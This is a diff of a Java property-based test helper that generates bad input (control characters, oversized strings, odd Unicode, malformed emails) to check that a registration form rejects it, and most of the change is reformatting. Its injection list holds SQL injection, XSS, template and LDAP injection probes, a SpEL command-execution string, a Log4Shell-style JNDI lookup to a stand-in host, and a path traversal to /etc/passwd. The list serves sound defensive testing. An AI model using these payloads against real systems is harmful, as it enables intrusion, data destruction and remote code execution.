@@ -14,22 +14,38 @@ import net.jqwik.api.Arbitrary;
  */
 final class BadInput {
 
-    static final List<String> CONTROL = List.of("\u0000", "\u0001", "\u0007", "\u0008", "\u000b", "\u000c", "\u001b",
-            "\u007f", "\u0085", "\u009b");
+    static final List<String> CONTROL =
+            List.of("\u0000", "\u0001", "\u0007", "\u0008", "\u000b", "\u000c", "\u001b", "\u007f", "\u0085", "\u009b");
     static final List<String> LINE_BREAKS = List.of("\n", "\r", "\r\n", "\t");
     /** Injection strings; each has a character that no restricted field (logon id, phone, tax id...) allows. */
-    static final List<String> INJECTION = List.of("'; DROP TABLE member_user; --", "\" OR \"1\"=\"1",
-            "<script>alert(1)</script>", "${7*7}", "#{7*7}", "*)(uid=*))(|(uid=*", "{{7*7}}",
-            "' OR 1=1 --", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}", "%00%0d%0a",
-            "T(java.lang.Runtime).getRuntime().exec('id')", "\\u0000");
-    static final List<String> UNICODE = List.of("ünïcödé", "用户名", "a\u200Bb", "a\u202Eb", "😀😀", "e\u0301",
-            "Ⅻ", "ﬀ", "\uFEFFbom");
+    static final List<String> INJECTION = List.of(
+            "'; DROP TABLE member_user; --",
+            "\" OR \"1\"=\"1",
+            "<script>alert(1)</script>",
+            "${7*7}",
+            "#{7*7}",
+            "*)(uid=*))(|(uid=*",
+            "{{7*7}}",
+            "' OR 1=1 --",
+            "<img src=x onerror=alert(1)>",
+            "${jndi:ldap://evil.example/a}",
+            "%00%0d%0a",
+            "T(java.lang.Runtime).getRuntime().exec('id')",
+            "\\u0000");
 
-    enum Kind { TEXT, MULTILINE, RESTRICTED, EMAIL, PASSWORD }
+    static final List<String> UNICODE =
+            List.of("ünïcödé", "用户名", "a\u200Bb", "a\u202Eb", "😀😀", "e\u0301", "Ⅻ", "ﬀ", "\uFEFFbom");
+
+    enum Kind {
+        TEXT,
+        MULTILINE,
+        RESTRICTED,
+        EMAIL,
+        PASSWORD
+    }
 
     /** A field of the registration request: its JSON path, HCL parameter, length limit and kind. */
-    record Field(String path, String hcl, int max, boolean required, Kind kind) {
-    }
+    record Field(String path, String hcl, int max, boolean required, Kind kind) {}
 
     static final List<Field> REGISTRATION_FIELDS = List.of(
             new Field("organization.name", "org_orgEntityName", 128, true, Kind.TEXT),
@@ -64,8 +80,7 @@ final class BadInput {
         }
     };
 
-    private BadInput() {
-    }
+    private BadInput() {}
 
     /** A string over the limit: just over it, or 10k to 1M characters. */
     static Arbitrary<String> oversized(int max) {
@@ -83,8 +98,10 @@ final class BadInput {
     /** Values that the field must refuse, as plain strings (forms) or any JSON value (text only when textOnly). */
     static Arbitrary<Object> invalid(Field field, boolean textOnly) {
         List<Arbitrary<?>> choices = new ArrayList<>();
-        choices.add(field.kind() == Kind.PASSWORD ? Arbitraries.of(65, 100, 10_000, 1_000_000).map(n -> "Pw1!".repeat(n / 4 + 1))
-                : oversized(field.max()));
+        choices.add(
+                field.kind() == Kind.PASSWORD
+                        ? Arbitraries.of(65, 100, 10_000, 1_000_000).map(n -> "Pw1!".repeat(n / 4 + 1))
+                        : oversized(field.max()));
         if (field.kind() != Kind.PASSWORD) {
             choices.add(withControl(field.kind() == Kind.MULTILINE));
         }
@@ -97,13 +114,13 @@ final class BadInput {
                 choices.add(Arbitraries.of(UNICODE));
             }
             case EMAIL -> {
-                List<String> emails = new ArrayList<>(INJECTION.stream().filter(s -> !s.contains("@")).toList());
+                List<String> emails = new ArrayList<>(
+                        INJECTION.stream().filter(s -> !s.contains("@")).toList());
                 emails.addAll(List.of("not-an-email", "a@", "@example.com", "a@@b.example", "a b@example.com"));
                 choices.add(Arbitraries.of(emails));
             }
             case PASSWORD -> choices.add(Arbitraries.of("short", "password", "abc", "Password1"));
-            default -> {
-            }
+            default -> {}
         }
         if (!textOnly) {
             choices.add(Arbitraries.of(List.of("a"), List.of(), Map.of("a", 1), Map.of()));
@@ -115,7 +132,9 @@ final class BadInput {
 
     /** Odd but allowed values for free-text fields (within the limit). */
     static Arbitrary<String> noise(Field field) {
-        return Arbitraries.oneOf(Arbitraries.of(INJECTION), Arbitraries.of(UNICODE),
+        return Arbitraries.oneOf(
+                        Arbitraries.of(INJECTION),
+                        Arbitraries.of(UNICODE),
                         Arbitraries.of("../../etc/passwd", "null", "undefined", "0", "-1", "9223372036854775808"))
                 .filter(s -> s.length() <= field.max() && !s.contains("\\u0000"));
     }
